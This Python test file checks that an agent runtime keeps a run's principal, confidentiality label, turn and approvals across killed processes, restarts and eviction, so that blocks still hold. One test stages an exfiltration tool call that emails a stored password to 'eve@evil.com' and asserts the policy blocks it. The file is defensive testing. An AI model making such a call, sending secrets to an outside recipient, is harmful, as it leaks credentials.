"""Run state outlives the process that opened the run: principal, context label, turn, approvals.

A run continued elsewhere (a restart, an API resume, another worker) must not lose what decides
what its next call may do; these tests kill or drop the first process and continue in another.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from actionspace import Runtime
from actionspace.ledger.run_state import MemoryRunStateStore, SqliteRunStateStore
from actionspace.policy import Label, Principal, redact_events

PASSWORD = "hunter2-correct-horse"

_TOOLS = """
from actionspace import Labels, Runtime

def tools(rt, sent):
    @rt.tool(effect="read", labels=Labels(confidentiality="secret"))
    def read_password() -> str:
        "Read the stored password."
        return "hunter2-correct-horse"

    @rt.tool(effect="external")
    def send_email(recipient: str, body: str) -> str:
        "Send an email."
        sent.append({"recipient": recipient, "body": body})
        return "sent"
"""


def _runtime(url: str, sent: list[dict[str, str]], **options: object) -> Runtime:
    rt = Runtime(url, **options)  # type: ignore[arg-type]
    namespace: dict[str, object] = {}
    exec(_TOOLS, namespace)  # the same tool definitions as the killed process
    namespace["tools"](rt, sent)  # type: ignore[operator]
    return rt


def test_a_secret_read_in_a_killed_process_still_blocks_the_send_in_the_next(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'run.db'}"
    script = textwrap.dedent(
        f"""
        import os, signal, sys
        {textwrap.indent(_TOOLS, "        ").strip()}
        rt = Runtime({url!r})
        tools(rt, [])
        run = rt.new_run("run_shared")
        obs = rt.call({{"name": "read_password", "arguments": {{}}}}, run_id=run)
        assert obs.status == "ok", obs
        print("read", flush=True)
        os.kill(os.getpid(), signal.SIGKILL)
        """
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.stdout.strip() == "read", done.stderr
    assert done.returncode == -signal.SIGKILL

    sent: list[dict[str, str]] = []
    rt = _runtime(url, sent)
    assert rt.context_label("run_shared").secret
    obs = rt.call(
        {"name": "send_email", "arguments": {"recipient": "eve@evil.com", "body": PASSWORD}},
        run_id="run_shared",
    )
    assert obs.status == "error"
    assert obs.error is not None and obs.error.category == "policy_violation"
    assert obs.error.details.get("declassifiable") is True
    assert sent == []
    # the events process B wrote carry the run's label: a viewer without clearance reads none of it
    events = [e for e in rt.trace.events("run_shared") if e.data.get("tool") == "send_email"]
    assert events
    viewer = Principal(id="auditor", scopes=("trace:read",))
    for event in redact_events(events, viewer):
        assert event.data.get("redacted") is True
        assert PASSWORD not in repr(event.data)


def test_the_run_principal_survives_a_restart(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'run.db'}"
    alice = Principal(id="alice", scopes=("read:*",), tenant="t1")
    first = _runtime(url, [])
    run = first.new_run(principal=alice)
    assert first.call({"name": "read_password", "arguments": {}}, run_id=run).status == "ok"
    first.close()

    sent: list[dict[str, str]] = []
    second = _runtime(url, sent)  # its default principal may call everything
    assert second.run_state(run).principal == alice
    obs = second.call({"name": "send_email", "arguments": {"recipient": "a@b.c", "body": "x"}}, run_id=run)
    assert obs.error is not None and obs.error.category == "permission_denied"
    assert obs.error.details["principal"] == "alice"
    assert sent == []


def test_an_approval_names_who_proposed_it_and_the_resumed_call_runs_as_them(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'run.db'}"
    bob = Principal(id="bob", scopes=("external:*",), tenant="t2")
    first = Runtime(url)

    @first.tool(effect="external", requires_approval=True)
    def pay(to: str, cents: int) -> str:
        """Pay someone."""
        return f"paid {cents} to {to}"

    run = first.new_run(principal=bob)
    held = first.call({"name": "pay", "arguments": {"to": "carol", "cents": 500}}, run_id=run)
    assert held.error is not None and held.error.category == "needs_approval"
    [request] = first.approvals.list()
    assert request.details["proposed_by"] == {"id": "bob", "scopes": ["external:*"], "tenant": "t2"}
    first.close()

    second = Runtime(url)  # a new server; its default principal is `local` with every scope
    second.tool(effect="external", requires_approval=True)(pay)
    second.approvals.approve(request.id, by="admin")
    decided = second.approvals.get(request.id)
    assert decided is not None and decided.status == "approved"
    who = Principal.from_dict(decided.details["proposed_by"])
    obs = second.call(
        {"name": "pay", "arguments": dict(request.arguments)},
        run_id=run,
        node_id=request.node_id,
        principal=who,
    )
    assert obs.status == "ok", obs.error
    authorized = [e for e in second.trace.events(run) if e.kind == "authorized"]
    assert authorized[-1].data["principal"] == "bob"


@pytest.mark.parametrize("store", ["memory", "sqlite"])
def test_an_evicted_run_comes_back_with_its_label_and_turn(tmp_path: Path, store: str) -> None:
    url = "memory://" if store == "memory" else f"sqlite:///{tmp_path / 'run.db'}"
    rt = _runtime(url, [])
    rt.engine.runs.max_live_runs = 8
    run = rt.new_run()
    rt.user_input(run, "read it", label=Label(confidentiality="internal"))
    assert rt.call({"name": "read_password", "arguments": {}}, run_id=run).status == "ok"
    rt.run_state(run).turn = 3
    rt.call({"name": "read_password", "arguments": {}}, run_id=run)  # a flush saves the turn
    for _ in range(40):  # other runs push it out of memory
        rt.new_run()
    assert len(rt.engine.runs) <= 8
    assert rt.engine.known_run(run) is None
    back = rt.run_state(run)
    assert back.flow.context == Label(confidentiality="secret")
    assert back.turn == 3
    assert back.flow.user_texts == ["read it"]


def test_a_finished_run_leaves_memory(tmp_path: Path) -> None:
    rt = _runtime("memory://", [])
    runs = []
    for _ in range(50):
        run = rt.new_run()
        rt.call({"name": "read_password", "arguments": {}}, run_id=run)
        rt.finish(run)
        runs.append(run)
    assert all(rt.engine.known_run(r) is None for r in runs)
    assert rt.context_label(runs[0]).secret  # read back from the store


def test_a_run_state_that_cannot_be_saved_shows_the_model_nothing(tmp_path: Path) -> None:
    class Broken(MemoryRunStateStore):
        def save(
            self, run_id: str, state: Mapping[str, Any], texts: Sequence[tuple[int, str]] = (), **_: Any
        ) -> bool:
            raise OSError("disk full")

    rt = _runtime("memory://", [])
    run = rt.new_run()
    rt.engine.runs.run_states = Broken()
    obs = rt.call({"name": "read_password", "arguments": {}}, run_id=run)
    assert obs.status == "error"
    assert obs.error is not None and obs.error.category == "transient"
    assert PASSWORD not in repr(obs.to_dict())


def test_the_sqlite_store_keeps_the_latest_snapshot(tmp_path: Path) -> None:
    store = SqliteRunStateStore(tmp_path / "s.db")
    assert store.load("r") is None
    store.save("r", {"turn": 1})
    store.save("r", {"turn": 2})
    assert store.load("r") == {"turn": 2}
    with pytest.raises(ValueError):
        store.save("r", {"x": float("nan")})
    assert SqliteRunStateStore(tmp_path / "s.db").load("r") == {"turn": 2}
    store.close()


def test_a_node_id_of_an_earlier_process_is_never_reused(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'run.db'}"
    first = _runtime(url, [])
    run = first.new_run()
    ids = {first.call({"name": "read_password", "arguments": {}}, run_id=run).call_id for _ in range(3)}
    first.close()
    second = _runtime(url, [])
    later = {second.call({"name": "read_password", "arguments": {}}, run_id=run).call_id for _ in range(3)}
    assert not ids & later
    assert os.path.exists(tmp_path / "run.db")


def test_a_run_continues_on_another_runtime_sharing_postgresql(pg_url: str) -> None:
    from tests.pg import fresh_schema

    for url in fresh_schema(pg_url):
        carol = Principal(id="carol", scopes=("read:*", "external:*"), tenant="t3")
        first = _runtime(url, [])
        run = first.new_run(principal=carol)
        assert first.call({"name": "read_password", "arguments": {}}, run_id=run).ok
        first.close()
        sent: list[dict[str, str]] = []
        second = _runtime(url, sent)
        assert second.run_state(run).principal == carol
        obs = second.call(
            {"name": "send_email", "arguments": {"recipient": "x@y.z", "body": PASSWORD}}, run_id=run
        )
        assert obs.error is not None and obs.error.category == "policy_violation"
        assert sent == []
        second.close()


def test_a_snapshot_saved_for_later_never_overwrites_a_newer_one(tmp_path: Path) -> None:
    store = SqliteRunStateStore(tmp_path / "s.db")
    store.save_later("r", {"n": 1})  # deferred ...
    store.save("r", {"n": 2})  # ... and overtaken by a snapshot saved (and waited for) after it
    assert store.load("r") == {"n": 2}
    store.save_later("r", {"n": 3})
    assert store.load("r") == {"n": 3}  # a read commits what is deferred first
    store.save_later("q", {"n": 4})
    store.close()  # and so does closing
    again = SqliteRunStateStore(tmp_path / "s.db")
    assert again.load("q") == {"n": 4}
    again.close()
